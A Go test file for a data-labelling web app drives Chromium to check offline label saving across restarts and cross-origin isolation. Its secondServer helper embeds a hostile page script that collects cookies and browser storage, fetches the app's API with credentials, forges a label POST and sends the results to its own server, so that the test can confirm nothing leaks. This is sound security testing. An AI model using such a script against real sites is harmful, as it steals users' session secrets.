//go:build unix

package command

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"lapsvm/app/labelpage/store"
	"lapsvm/dataset/files"
	"lapsvm/internal/testing/chromium"
)

// browsed is a tab of a browser.
type browsed struct {
	t   *testing.T
	ctx context.Context
}

func (b browsed) do(steps ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	if err := chromedp.Do(b.ctx, steps...); err != nil {
		b.t.Fatal(err)
	}
}

// text evaluates a script.
func (b browsed) text(script string) string {
	b.t.Helper()
	text, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](script))
	if err != nil {
		b.t.Fatalf("%s: %v", script, err)
	}
	return text
}

// until waits for a condition, or fails with what the page says.
func (b browsed) until(condition string) {
	b.t.Helper()
	for end := time.Now().Add(time.Minute); ; time.Sleep(10 * time.Millisecond) {
		is, err := chromedp.Run(b.ctx, chromedp.Evaluate[bool]("(() => { try { return Boolean("+condition+") } catch { return false } })()"))
		if err == nil && is {
			return
		}
		if time.Now().After(end) {
			b.t.Fatalf("never came: %s (%v)\n%s", condition, err, b.text("document.body.innerText"))
		}
	}
}

// label gives so many points the first class.
func (b browsed) label(n int) {
	b.t.Helper()
	for range n {
		row := b.text("document.getElementById('stage').dataset.row")
		b.do(chromedp.KeyEvent("1"))
		b.until(fmt.Sprintf("document.getElementById('stage').dataset.row > 0 && document.getElementById('stage').dataset.row != %s", row))
	}
}

// A page that is open while the program is killed and restarted sends its unsent labels, once. A
// second server on the same host learns no token from the browser.
func TestLabelOpenPage(t *testing.T) {
	browser := chromium.Start(t)
	var table strings.Builder
	table.WriteString("x,y\n")
	for i := range 60 {
		fmt.Fprintf(&table, "%d,%d\n", i*i%17, i%13)
	}
	data := file(t, t.TempDir(), "points.csv", table.String())
	args := []string{data, "--classes", "low,high"}
	l := labellingPage(t, args...)
	b := browsed{t, browser}
	b.do(chromedp.Navigate(l.page))
	b.until("document.querySelector('dialog input')")
	b.do(chromedp.KeyEvent("Ada\r"))
	b.until("document.getElementById('stage')?.dataset.row > 0")
	if address := b.text("location.href"); strings.Contains(address, "token") {
		t.Errorf("the address keeps the token: %s", address)
	}
	b.label(1)
	b.until("document.getElementById('saving').textContent === 'Saved'")

	l.kill()
	b.label(4)
	b.until("document.getElementById('saving').textContent === 'Offline, 4 not saved'")
	again := labellingPage(t, args...)
	if again.page != l.page {
		t.Errorf("started again, the address is %s in place of %s", again.page, l.page)
	}
	b.until("document.getElementById('saving').textContent === 'Saved'")
	b.label(1)
	b.until("document.getElementById('saving').textContent === 'Saved'")
	secondServer(t, browser, again)
	again.kill()
	if labels := labelsIn(t, data); len(labels) != 6 {
		t.Errorf("%d labels in the store in place of 6: %v", len(labels), labels)
	}
}

// labelsIn counts the labels of every row in the store of a table, which is no longer open.
func labelsIn(t *testing.T, data string) map[int]int {
	t.Helper()
	d, err := files.ReadFile(data, files.Options{Keep: true, Features: 2})
	if err != nil {
		t.Fatal(err)
	}
	found := make(map[int]int)
	s := storeOf(t, d, data+".labels.db")
	defer s.Close()
	for e := range s.Events() {
		if e.Kind == store.Label {
			if found[e.Row]++; found[e.Row] > 1 {
				t.Errorf("row %d has %d labels", e.Row+1, found[e.Row])
			}
		}
	}
	return found
}

// secondServer opens another server of the host in the browser. That server's page collects what it
// can get and sends requests to the labelling page.
func secondServer(t *testing.T, browser context.Context, l *labeller) {
	t.Helper()
	var mu sync.Mutex
	var heard []string
	var done sync.WaitGroup
	done.Add(1)
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		all, err := httputil.DumpRequest(r, true)
		mu.Lock()
		heard = append(heard, string(all))
		mu.Unlock()
		switch {
		case err != nil:
			t.Error(err)
		case r.URL.Path == "/end":
			done.Done()
		case r.URL.Path == "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<img src="%[1]s/api/image/1.png"><script>(async () => {
				const to = %[1]q;
				const got = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
				for (const mode of ['cors', 'no-cors']) {
					for (const [path, method] of [['/', 'GET'], ['/api/state', 'GET'], ['/assets/api.js', 'GET'], ['/api/events', 'POST']]) {
						const body = method === 'POST' ? '{"person":"eve","events":[{"key":"k","kind":"label","row":60,"class":0}]}' : undefined;
						await fetch(to + path, { mode, method, body, credentials: 'include' }).then(async (r) => got.push(await r.text()), () => {});
					}
				}
				await fetch('/got', { method: 'POST', body: got.join(' ') });
				await fetch('/end');
			})()</script>`, l.url)
		}
	}))
	defer other.Close()
	ctx, cancel := chromedp.NewContext(browser)
	defer cancel()
	browsed{t, ctx}.do(chromedp.Navigate(other.URL))
	done.Wait()
	mu.Lock()
	defer mu.Unlock()
	_, token, _ := strings.Cut(l.page, "token=")
	all := strings.Join(heard, "\n")
	for _, secret := range []string{token, "Cookie:", "Authorization:", "Ada", "unsent"} {
		if strings.Contains(all, secret) {
			t.Errorf("the other server heard %q:\n%s", secret, all)
		}
	}
	if !strings.Contains(all, "POST /got") {
		t.Errorf("the other page did nothing:\n%s", all)
	}
}
